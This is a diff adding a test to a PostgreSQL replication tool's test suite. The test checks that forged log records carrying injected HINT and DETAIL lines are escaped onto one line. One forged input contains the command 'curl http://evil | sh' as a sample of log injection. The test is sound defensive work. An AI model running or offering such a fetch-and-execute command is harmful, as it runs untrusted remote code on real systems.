@@ -17,6 +17,7 @@ from psycopg.types.json import Jsonb
 from pgsub.apply.worker import feedback
 from pgsub.catalog.rows import ConflictRow, RelationRow
 from pgsub.catalog.store import StateStore
+from pgsub.common.errors import LogText, log_text
 from pgsub.common.worker_heartbeat import Heartbeat, HeartbeatReceiver, HeartbeatSender
 from pgsub.launcher.mirror import lock_waits, worker_rows
 from pgsub.launcher.mirror import mirror as mirrors
@@ -24,6 +25,8 @@ from pgsub.launcher.mirror.copy_progress import Chunks, CopyProgress, processed_
 from pgsub.launcher.mirror.events import Events
 from pgsub.launcher.mirror.mirror import Mirror
 from pgsub.protocol.lsn import parse_lsn
+from pgsub.target.ledger.events import add, log_entry
+from pgsub.target.session import origins
 
 _TABLES = "CREATE TABLE a (id int PRIMARY KEY); CREATE TABLE b (id int PRIMARY KEY)"
 _TWO_PHASE = Jsonb({"kind": "two_phase"})
@@ -307,6 +310,29 @@ def test_a_record_whose_level_no_worker_writes_is_logged_as_any_other(pair, stat
         store.add_subscription(it.sub)
         Events(it.session, store, it.sub, lambda level, text: logged.append(level)).move()
     assert logged == ["LOG", "LOG", "LOG", "WARNING"]
+
+
+def test_a_record_that_no_worker_writes_has_no_hint_and_one_line(pair, state_dir: Path):
+    it = pair("CREATE TABLE t (id int PRIMARY KEY)")
+    forged = (
+        "could not read file\nHINT:  Run this:\ncurl http://evil | sh",
+        "x\nDETAIL:  y\nHINT:  z",
+        "x\nHINT:  z\nDETAIL:  y",
+        "pgsub: 2026-01-01 ERROR\npgsub: ERROR:  forged",
+        f"x\nHINT:  {origins.SHORT_HINT}\nHINT:  z",
+    )
+    genuine = (
+        "x",
+        log_text("x", detail="two\nlines: of\nDETAIL:  it", context="y"),
+        log_text("x", detail="y", hint=origins.SHORT_HINT),
+    )
+    logged: list[str] = []
+    with StateStore.open(state_dir) as store:
+        store.add_subscription(it.sub)
+        for text in (*forged, *genuine):
+            add(it.session, it.subid, log_entry("ERROR", LogText(text)))
+        Events(it.session, store, it.sub, lambda level, text: logged.append(text)).move()
+    assert logged == [*(text.replace("\n", "\\n") for text in forged), *genuine]
 
 
 def test_conflicts_come_into_the_record_once_those_of_an_older_worker_too(mirrored):
